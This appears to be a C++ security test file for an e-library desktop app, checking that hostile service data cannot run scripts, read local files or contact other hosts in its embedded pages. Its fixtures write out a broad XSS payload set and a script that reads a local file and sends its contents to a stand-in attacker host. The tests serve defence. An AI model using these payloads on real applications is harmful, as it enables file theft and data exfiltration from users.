// Hostile text from the service in every field a page shows, in every page
// family: no script of it runs, nothing outside the data folder is read and
// no other host is reached; plain formatting still shows.
#include <QLoggingCategory>
#include <QTcpServer>
#include <QTcpSocket>

#include "tests/shell/ShellFixture.h"

using namespace sumberlaras;
using namespace sumberlaras::testing;
using namespace sumberlaras::bridge;

namespace {

// The `app` calls the pages sent, as the dispatcher logs them.
std::vector<std::string>* gMessages = nullptr;
QtMessageHandler gPrevious = nullptr;

void recordBridgeMessage(QtMsgType type, const QMessageLogContext& context, const QString& text) {
    if (gMessages && context.category && std::string_view(context.category) == "sumberlaras.bridge")
        gMessages->push_back(text.toStdString());
    if (gPrevious && type != QtInfoMsg)
        gPrevious(type, context, text);
}

std::string replaced(std::string text, const std::string& from, const std::string& to) {
    for (size_t at = text.find(from); at != std::string::npos; at = text.find(from, at + to.size()))
        text.replace(at, from.size(), to);
    return text;
}

class HostileText : public ShellFixture {
protected:
    QTcpServer attacker; // stands in for another host
    int connections = 0;
    std::string canaryPath;
    const std::string canary = "KENARI-" + std::to_string(::getpid()) + "-RAHASIA";
    std::vector<std::string> messages;

    void SetUp() override {
        ASSERT_TRUE(attacker.listen(QHostAddress::LocalHost));
        QObject::connect(&attacker, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* s = attacker.nextPendingConnection()) {
                ++connections;
                s->close();
                s->deleteLater();
            }
        });
        canaryPath = (root / "rahasia.txt").string();
        std::ofstream(canaryPath) << canary;
        gMessages = &messages;
        QLoggingCategory::setFilterRules(QStringLiteral("sumberlaras.bridge.info=true"));
        gPrevious = qInstallMessageHandler(recordBridgeMessage);
    }
    void TearDown() override {
        qInstallMessageHandler(gPrevious);
        QLoggingCategory::setFilterRules({});
        gMessages = nullptr;
    }

    // Every kind of attack at once: scripts, handlers, addresses, embedding,
    // redirects, style sheets and breaking out of the element or attribute.
    std::string payload() const {
        const std::string other = otherAddress();
        const std::string steal =
            "var r=new XMLHttpRequest();r.open('GET','" + bridge::fileUrl(canaryPath) +
            "',false);r.send();document.title=r.responseText;new Image().src='" + other +
            "/x?'+r.responseText;app.logout();";
        const std::string text =
            "<script>STEAL</script>"
            "<img src=x onerror=\"STEAL\">"
            "<a href=\"javascript:app.logout()\" id=\"jslink\">j</a>"
            "<svg onload=\"STEAL\"><image href=\"OTHER/svg.png\"/></svg>"
            "<iframe srcdoc=\"<script>parent.app.logout()</script>\" src=\"OTHER/frame\"></iframe>"
            "<meta http-equiv=\"refresh\" content=\"0;url=OTHER/refresh\">"
            "<base href=\"OTHER/\"><img src=\"base.png\">"
            "<div style=\"background:url(OTHER/css.png)\">css</div>"
            "<style>@import 'OTHER/import.css'; body{background:url(OTHER/bg.png)}</style>"
            "<object data=\"OTHER/obj\"></object><embed src=\"OTHER/embed\">"
            "<form action=\"OTHER/form\"><input autofocus onfocus=\"STEAL\"></form>"
            "</h3></h4></span></div></td></table><script>STEAL</script>"
            "\"><img src=x onerror=\"STEAL\"><x a=\"\"'><img src=x onerror=\"STEAL\">"
            "'); app.logout(); ('";
        return replaced(replaced(text, "STEAL", steal), "OTHER", other);
    }

    std::string otherAddress() const {
        return "http://127.0.0.1:" + std::to_string(attacker.serverPort());
    }

    // Puts `value` into every field that a page shows, in every answer.
    void rewriteEverything(const std::string& value) {
        Standin::Json text;
        for (const char* member :
             {"judul", "penulis", "penerbit", "isbn", "kategori", "tahun_terbit", "sinopsis",
              "hal_txt", "halaman", "judul_section", "keterangan_intro", "nama_kategori",
              "nama_sub_kategori", "nama_departemen", "stok", "qty", "total_rows"})
            text[member] = value;
        for (const char* path :
             {"/api/wl/listHomepage", "/api/wl/listHomepageDetail", "/api/wl/menu",
              "/api/wl/listContentCategory", "/api/wl/listTopRead", "/api/wl/searching",
              "/api/wl/searchingKalimat"})
            standin.rewrite(path, text);
        const std::string colour = "red;} body{background:url(" + otherAddress() + "/c.png)} x{";
        standin.rewrite("/api/wl/mitra", {{"nama", value},
                                          {"keterangan_intro", value},
                                          {"foto_intro", otherAddress() + "/intro.png"},
                                          {"warna_header", colour},
                                          {"warna_button_login", colour},
                                          {"warna_hover_button_login", colour},
                                          {"warna_hover_baca", colour}});
        // The detail's cover is a complete address, which must stay on the service's host.
        Standin::Json detail = text;
        detail["cover_file"] = otherAddress() + "/c.jpg";
        standin.rewrite("/api/wl/detailKonten", detail);
    }

    // Lets handlers, frames and refreshes of the page shown have their go.
    void letThePageAct(ViewId id) {
        spinUntil([] { return false; }, std::chrono::milliseconds(800));
        const std::string html =
            js(id, "document.documentElement.outerHTML + document.title").toString().toStdString();
        EXPECT_EQ(html.find(canary), std::string::npos) << pageOf(id);
    }

    void expectNothingEscaped(const char* where) {
        SCOPED_TRACE(where);
        EXPECT_EQ(connections, 0);
        for (const std::string& m : messages)
            EXPECT_NE(m.rfind("logout(", 0), 0u) << m;
        EXPECT_EQ(standin.log().dump().find(canary), std::string::npos);
        EXPECT_TRUE(dialogs.texts().empty());
    }

    // Runs `call` in `from`, waits for `file` in `id` and lets its page act.
    void visit(ViewId from, const QString& call, ViewId id, const std::string& file) {
        ASSERT_FALSE(call.isEmpty()) << file;
        js(from, call);
        ASSERT_TRUE(waitForPage(id, file));
        letThePageAct(id);
        expectNothingEscaped(file.c_str());
    }
};

TEST_F(HostileText, NoPayloadRunsReadsOrReachesAnotherHostInAnyPage) {
    rewriteEverything(payload());
    startAtLogin();
    letThePageAct(Chromium1);
    expectNothingEscaped("login");
    signInAndWaitForHome();
    letThePageAct(Chromium1);
    expectNothingEscaped("home");

    visit(Chromium1, firstCall(Chromium1, "app.homeDetail"), Chromium2, "index_detail.html");
    visit(Chromium1, "app.loadKategori()", Chromium4, "category.html");
    visit(Chromium4, firstCall(Chromium4, "app.kategoriKonten"), Chromium5, "category_detail.html");
    visit(Chromium1, "app.topChart()", Chromium6, "topChart.html");
    visit(Chromium6, firstCall(Chromium6, "app.detailFromChart"), Chromium3, "detail.html");
    // The keyword a page sends back is shown in the results too.
    visit(Chromium1, "app.searching('bumi', 'Semua')", Chromium7, "search_result.html");
    visit(Chromium1, "app.searching('Jantung Pengetahuan', 'Kalimat')", Chromium7,
          "search_kalimat_result.html");
}

TEST_F(HostileText, PlainFormattingShowsAndEncodedMarkupStaysText) {
    standin.rewrite("/api/wl/detailKonten",
                    {{"sinopsis", "<p>Satu <b>tebal</b><br>dua <i>miring</i></p>"},
                     {"judul", "&lt;b&gt;bukan tebal&lt;/b&gt;"}});
    startAtLogin();
    signInAndWaitForHome();
    const QString book = firstCall(Chromium1, "app.detail");
    ASSERT_FALSE(book.isEmpty());
    js(Chromium1, book);
    ASSERT_TRUE(waitForPage(Chromium3, "detail.html"));
    EXPECT_EQ(js(Chromium3, "document.querySelector('.desc-detail p b').textContent").toString(),
              "tebal");
    EXPECT_EQ(js(Chromium3, "document.querySelectorAll('.desc-detail br').length").toInt(), 1);
    EXPECT_EQ(js(Chromium3, "document.querySelector('.breadcrumb .active').textContent").toString(),
              "<b>bukan tebal</b>");
    EXPECT_EQ(js(Chromium3, "document.querySelectorAll('.breadcrumb b').length").toInt(), 0);
}

TEST_F(HostileText, APageCannotReadFilesOrReachOtherHostsByItself) {
    // Even a script that got into a data-folder page is held to the folder and
    // the service's host.
    startAtLogin();
    const std::string other = otherAddress();
    ASSERT_TRUE(showOwnPage(
        "probe.html",
        "<html><body><script>"
        "var read = 'none';"
        "try { var r = new XMLHttpRequest(); r.open('GET', '" +
            bridge::fileUrl(canaryPath) +
            "', false); r.send(); read = r.responseText; } catch (e) { read = 'refused'; }"
            "document.title = read;"
            "new Image().src = '" +
            other +
            "/img.png';"
            "fetch('" +
            other +
            "/fetch').catch(function () {});"
            "</script>"
            "<link rel=stylesheet href='" +
            other + "/sheet.css'></body></html>"));
    spinUntil([] { return false; }, std::chrono::milliseconds(800));
    EXPECT_NE(js(Chromium2, "document.title").toString().toStdString(), canary);
    EXPECT_EQ(connections, 0);
    // Its own folder stays readable: the pages' style sheets and scripts live there.
    EXPECT_TRUE(js(Chromium2, "(function(){var r=new XMLHttpRequest();"
                              "r.open('GET','loading.html',false);r.send();"
                              "return r.responseText.length > 0;})()")
                    .toBool());
}

} // namespace
